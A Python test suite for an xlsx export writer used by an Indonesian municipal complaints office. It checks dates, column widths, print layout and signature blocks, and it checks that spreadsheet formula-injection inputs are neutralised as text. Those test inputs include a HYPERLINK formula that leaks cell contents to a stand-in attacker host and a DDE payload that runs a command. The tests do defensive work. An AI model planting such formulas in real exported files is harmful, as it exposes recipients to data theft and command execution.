"""The one xlsx writer: real dates, frozen bold headers, widths, and cells safe against formulas."""

from __future__ import annotations

import io
import time
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from zi_public.exports.xlsx import (
    MAX_CELL_CHARS,
    CountingRows,
    Document,
    Sheet,
    Signature,
    neutralise_text,
    write_workbook,
)


def read(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_headers_rows_types_widths_and_frozen_header():
    content = write_workbook(
        [
            Sheet(
                "Pengaduan",
                ["Nomor", "Diterima", "Waktu", "Jumlah", "Rasio", "Kosong"],
                [
                    ["PGD-2026-000001", date(2026, 11, 27), datetime(2026, 11, 27, 10, 5), 3, Decimal("0.25"), None],
                    ["PGD-2026-000002", date(2024, 2, 29), datetime(2026, 1, 2, 3, 0, tzinfo=UTC), 0, 0.5, None],
                ],
                widths=[20, 12, 18],
                number_formats={4: "0.0%"},
            )
        ]
    )
    ws = read(content)["Pengaduan"]
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["Nomor", "Diterima", "Waktu", "Jumlah", "Rasio", "Kosong"]
    assert all(c.font.b for c in ws[1])
    assert ws.column_dimensions["A"].width == 20 and ws.column_dimensions["C"].width == 18
    assert ws["B2"].value == datetime(2026, 11, 27) and ws["B2"].is_date and ws["B2"].number_format == "dd/mm/yyyy"
    assert ws["C2"].value == datetime(2026, 11, 27, 10, 5) and ws["C2"].number_format == "dd/mm/yyyy hh:mm"
    assert ws["B3"].value == datetime(2024, 2, 29)
    # An aware UTC time is shown on the office's clock (Asia/Jakarta, UTC+7).
    assert ws["C3"].value == datetime(2026, 1, 2, 10, 0)
    assert ws["D2"].value == 3 and ws["D3"].value == 0
    assert ws["E2"].value == 0.25 and ws["E2"].number_format == "0.0%"
    assert ws["F2"].value is None
    assert ws.max_row == 3


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_triggers_are_neutralised_as_text(hostile):
    ws = read(write_workbook([Sheet("S", [hostile], [[hostile, "aman =1+1"]])]))["S"]
    for cell in (ws["A1"], ws["A2"]):
        assert cell.data_type == "s"
        # Some XML readers turn a stored CR into LF; what matters is the quote in front of it.
        assert cell.value.replace("\r", "\n") == "'" + hostile.replace("\r", "\n")
    assert ws["B2"].value == "aman =1+1"


def test_error_literals_stay_text():
    ws = read(write_workbook([Sheet("S", ["h"], [["#N/A"], ["#DIV/0!"]])]))["S"]
    assert ws["A2"].data_type == "s" and ws["A2"].value == "#N/A"
    assert ws["A3"].data_type == "s"


def test_characters_illegal_in_xml_are_dropped_not_fatal():
    ws = read(write_workbook([Sheet("S", ["ju\x00dul"], [["a\x01b\x0bc\x1fd", "baris\nbaru\ttab"]])]))["S"]
    assert ws["A1"].value == "judul"
    assert ws["A2"].value == "abcd"
    assert ws["B2"].value == "baris\nbaru\ttab"
    # Dropping a control character must not expose a trigger behind it.
    assert neutralise_text("\x00=1+1") == "'=1+1"


def test_overlong_text_is_cut_to_what_excel_accepts():
    ws = read(write_workbook([Sheet("S", ["h"], [["x" * 40_000]])]))["S"]
    assert len(ws["A2"].value) == MAX_CELL_CHARS and ws["A2"].value.endswith("[...]")


def test_sheet_titles_are_made_valid_and_unique():
    titles = ["Rekap: [2026/11]*?\\", "x" * 40, "Rekap  2026 11", "", "'Data'", "data"]
    wb = read(write_workbook([Sheet(t, ["h"], []) for t in titles]))
    names = wb.sheetnames
    assert len(names) == len(titles) == len({n.casefold() for n in names})
    for name in names:
        assert 0 < len(name) <= 31 and not any(ch in name for ch in "[]:*?/\\") and not name.startswith("'")
    assert names[0] == "Rekap   2026 11"
    assert names[1] == "x" * 31
    assert names[3] == "Sheet4"
    assert names[4] == "Data" and names[5] == "data (2)"


def test_other_values_are_written_as_text_and_booleans_as_booleans():
    class Odd:
        def __str__(self) -> str:
            return "-odd"

    ws = read(write_workbook([Sheet("S", ["a", "b"], [[True, Odd()]])]))["S"]
    assert ws["A2"].value is True
    assert ws["B2"].value == "'-odd"


def test_an_empty_workbook_is_refused():
    with pytest.raises(ValueError):
        write_workbook([])


def test_fifty_thousand_rows_stream_quickly():
    def rows():
        for i in range(50_000):
            yield [f"PGD-2026-{i:06d}", date(2026, 1, 1 + i % 28), i, "=bahaya" if i % 1000 == 0 else "judul"]

    counted = CountingRows(rows())
    started = time.process_time()  # CPU time: the suite may share the machine with other work
    content = write_workbook([Sheet("Besar", ["Nomor", "Tanggal", "N", "Judul"], counted)])
    elapsed = time.process_time() - started
    assert counted.count == 50_000
    # Pure-Python XML writing (no lxml) needs ~20 s of CPU here; an accidental quadratic would not pass.
    assert elapsed < 120, elapsed
    ws = load_workbook(io.BytesIO(content), read_only=True)["Besar"]
    count, last, neutralised = 0, None, 0
    for last in ws.iter_rows(min_row=2, values_only=True):
        count += 1
        neutralised += last[3] == "'=bahaya"
    assert count == 50_000 and last[0] == "PGD-2026-049999" and neutralised == 50


DOCUMENT = Document(
    unit="Dinas Penanaman Modal dan Pelayanan Terpadu Satu Pintu Kota Magelang",
    title="Laporan Uji",
    details=["Periode: November 2026", "Keadaan per: 30 November 2026"],
    signatures=[
        Signature("Mengetahui,", "Kepala Dinas Penanaman Modal dan Pelayanan Terpadu Satu Pintu Kota Magelang", "Ani"),
        Signature("Magelang, 2 Desember 2026", "Ketua Tim Pengaduan", "", "NIP. 1970"),
    ],
    footer="Laporan Uji & lampiran",
    page_label="Halaman &P dari &N",
)


def test_every_sheet_prints_landscape_one_page_wide_with_its_header_on_every_page():
    wb = read(write_workbook([Sheet("S", ["a", "b"], [[1, 2]]), Sheet("T", ["c"], [])]))
    for ws in wb:
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)  # as many pages down as needed
        assert ws.print_title_rows == "$1:$1" and ws.freeze_panes == "A2"


def test_a_document_opens_with_its_title_block_and_ends_with_its_signatures():
    rows = [[f"PGD-2026-{i:06d}", "teks panjang " * 8] for i in range(3)]
    ws = read(
        write_workbook([Sheet("Daftar", ["Nomor", "Uraian"], rows, widths=[18, 30], wrap=frozenset({1}))], DOCUMENT)
    )["Daftar"]
    column_a = [ws.cell(row, 1).value for row in range(1, 7)]
    assert column_a == [DOCUMENT.unit, "Laporan Uji", "Daftar", "Periode: November 2026",
                        "Keadaan per: 30 November 2026", None]  # fmt: skip
    assert ws["A1"].font.b and ws["A2"].font.sz == 14
    # The header row sits under the title block: frozen there and repeated on every printed page.
    assert [c.value for c in ws[7]][:2] == ["Nomor", "Uraian"] and ws["A7"].font.b
    assert ws.freeze_panes == "A8" and ws.print_title_rows == "$7:$7"
    assert ws["A8"].value == "PGD-2026-000000" and ws["A10"].value == "PGD-2026-000002"
    assert ws.row_dimensions[8].height == 60  # 104 characters wrap onto 4 lines of a 30-wide column
    # One conditional format draws the table's borders (no styled cell per value).
    assert [str(rng.sqref) for rng in ws.conditional_formatting] == ["A8:B10"]
    # A narrow table still prints the page's width, so the title and signatures fit.
    assert ws.print_area == "'Daftar'!$A$1:$G$20"
    assert ws.oddFooter.left.text == "Laporan Uji && lampiran" and ws.oddFooter.right.text == "Halaman &P dari &N"

    texts = {(cell.row, cell.column): cell.value for row in ws.iter_rows(min_row=11) for cell in row if cell.value}
    by_text = {value: position for position, value in texts.items()}
    # The preparer signs on the right under the place and date; the pimpinan acknowledges on the left.
    caption_row, right = by_text["Magelang, 2 Desember 2026"]
    assert by_text["Mengetahui,"] == (caption_row, 1) and right > 1
    assert by_text["Ketua Tim Pengaduan"] == (caption_row + 1, right)
    assert by_text["Kepala Dinas Penanaman Modal dan Pelayanan"] == (caption_row + 1, 1)  # long positions wrap
    assert by_text["Terpadu Satu Pintu Kota Magelang"] == (caption_row + 2, 1)
    name_row = by_text["Ani"][0]
    assert name_row == caption_row + 3 + 3 and ws.cell(name_row, 1).font.u == "single"
    assert by_text["(" + "." * 40 + ")"] == (name_row, right)  # no name yet: a line to sign over, level with Ani
    assert by_text["NIP. 1970"] == (name_row + 1, right)


def test_a_document_sheet_keeps_streaming_and_its_texts_are_neutralised():
    hostile = Document(unit="=HYPERLINK(1)", title="+judul", details=["@rincian"],
                       signatures=[Signature("-", "=jabatan", "=nama")])  # fmt: skip
    ws = read(write_workbook([Sheet("S", ["h"], [[1]])], hostile))["S"]
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert values and all(not value.startswith(("=", "+", "-", "@")) for value in values)
